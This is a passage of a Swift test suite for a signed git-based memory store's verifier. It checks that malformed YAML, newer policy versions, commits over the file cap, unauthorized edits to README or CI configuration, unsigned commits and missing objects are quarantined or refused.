            "a: &a [x]\nb: [*a, *a, *a]\n",
            "title: twice\n",
            "x: !!binary aGk=\n",
            "x: " + String(repeating: "[", count: 40) + String(repeating: "]", count: 40) + "\n",
        ]
        for extra in extras {
            let id = store.nextID()
            try store.write(MemoryPath(kind: .learning, id: id).description, store.memoryText(id: id, principal: "sf@mikki-bunker", extraBody: extra))
        }
        let commit = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.status(of: commit) == .good)
        #expect(result.quarantined.map(\.reason) == Array(repeating: .unparsable, count: 4))
        #expect(result.quarantined.map(\.detail).contains { $0.contains("anchor") })
        #expect(result.quarantined.map(\.detail).contains { $0.contains("duplicate key 'title'") })
        #expect(result.accepted.isEmpty)
    }

    @Test("a memory from a newer schema is accepted; a policy from a newer sfgit fails closed")
    func newerVersions() throws {
        let (store, base) = try Self.storeWithWriter()
        let id = store.nextID()
        try store.write(MemoryPath(kind: .learning, id: id).description,
                        store.memoryText(id: id, principal: "sf@mikki-bunker").replacingOccurrences(of: "schema: 1", with: "schema: 2"))
        let newer = try store.commit(as: "sf@mikki-bunker")
        try store.write(".sfgit/policy.yaml", store.policyText().replacingOccurrences(of: "version: 1", with: "version: 2"))
        let upgrade = try store.commit(as: "admin@hq", "policy v2")
        let result = try verify(store, from: base)
        #expect(result.status(of: newer) == .good)
        #expect(result.accepted.count == 1)
        #expect(result.status(of: upgrade) == .unsupportedPolicy)
        #expect(result.blocked?.reason.contains("upgrade sfgit") == true)
        #expect(result.verifiedTip?.hex == newer)
    }

    @Test("a flood from one writer: files over the per-commit cap are quarantined")
    func flood() throws {
        let store = try StoreBuilder()
        store.maxFilesPerCommit = 3
        try store.setRoles("sf@mikki-bunker", ["write"])
        let base = try store.commit(as: "admin@hq")
        for _ in 0..<5 { try store.addMemory(by: "sf@mikki-bunker") }
        let commit = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.status(of: commit) == .good)
        #expect(result.accepted.count == 3)
        #expect(result.quarantined.map(\.reason) == [.overCommitCap, .overCommitCap])
    }

    /// README.md exists from the introduction on: the writer edits it; `.github/` is added.
    @Test("a writer cannot change README.md or forge configuration; an admin can", arguments: ["README.md", ".github/workflows/ci.yml"])
    func writerTouchesReadme(path: String) throws {
        let (store, base) = try Self.storeWithWriter()
        try store.write(path, "# rewritten by a writer\n")
        let commit = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .unauthorized)
        #expect(result.blocked?.reason.contains("only admin may change \(path)") == true, "\(result.blocked?.reason ?? "")")
        #expect(result.verifiedTip?.hex == base)
        // The same change signed by the admin is authentic: the path is the admin's, not forbidden.
        try Self.moveMain(store, to: base)
        try store.write(path, "# rewritten by the admin\n")
        let byAdmin = try store.commit(as: "admin@hq")
        #expect(try verify(store, from: base).status(of: byAdmin) == .good)
    }

    @Test("a descendant of a refused commit is refused too, and the tip stays at the last good commit")
    func descendantsBlocked() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker")
        let good = try store.commit(as: "sf@mikki-bunker")
        try store.addMemory(by: "sf@mikki-bunker")
        let bad = try store.commitUnsigned()
        try store.addMemory(by: "sf@mikki-bunker")
        let after = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.status(of: good) == .good)
        #expect(result.status(of: bad) == .unsigned)
        #expect(result.status(of: after) == .untrustedParent)
        #expect(result.verifiedTip?.hex == good)
        #expect(result.accepted.count == 1)
    }

    @Test("history whose objects did not all arrive: the commit is refused as malformed, its descendants as untrusted parents")
    func missingObject() throws {
        let (store, base) = try Self.storeWithWriter()
        let path = try store.addMemory(by: "sf@mikki-bunker", title: "its blob goes missing")
        let broken = try store.commit(as: "sf@mikki-bunker")
        try store.addMemory(by: "sf@mikki-bunker", title: "built on top")
        let child = try store.commit(as: "sf@mikki-bunker")
        // The blob leaves the object store (a remote that sent an incomplete or swapped pack).
        let blob = try store.git.run(["rev-parse", "\(broken):\(path)"])
        try FileManager.default.removeItem(atPath: store.gitDirectory + "/objects/" + blob.prefix(2) + "/" + blob.dropFirst(2))
        let result = try verify(store)
        #expect(result.verifiedTip?.hex == base)
        #expect(result.blocked?.commit.hex == broken)
        #expect(result.blocked?.status == .malformed)
        #expect(result.blocked?.reason.contains("does not have") == true)
        #expect(result.outcomes.first { $0.commit.hex == child }?.status == .untrustedParent)
        #expect(!result.accepted.contains { $0.path == path })
    }
}
